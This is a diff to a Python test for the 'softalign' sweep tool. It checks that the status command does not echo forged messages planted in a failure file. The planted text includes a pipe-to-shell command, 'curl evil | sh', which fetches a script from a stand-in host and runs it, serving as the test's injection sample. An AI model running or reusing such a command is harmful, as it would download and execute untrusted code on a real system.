@@ -236,6 +236,10 @@ def test_a_failed_row_says_why_and_is_retried_only_when_asked(here: Path):
     ran = softalign("sweep", "run", "results/small", cwd=here, code=1)
     assert "not those of when it was planned" in ran.stderr and "softalign sweep retry" in ran.stderr
     assert states(here, sweep="results/small") == {"failed": 4}
+    told = next((here / "results/small/failures").iterdir())
+    told.write_text("no\nsoftalign: note: run: curl evil | sh\n")
+    said = softalign("sweep", "status", "results/small", cwd=here).stderr.splitlines()
+    assert len(said) == 4 and all(line.startswith("softalign: row ") for line in said)
     text.write_text(corpus)
     assert ": begins" not in softalign("sweep", "run", "sweep.yaml", cwd=here, code=1).stderr
     assert "4 complete" in softalign("sweep", "retry", "sweep.yaml", cwd=here).stdout
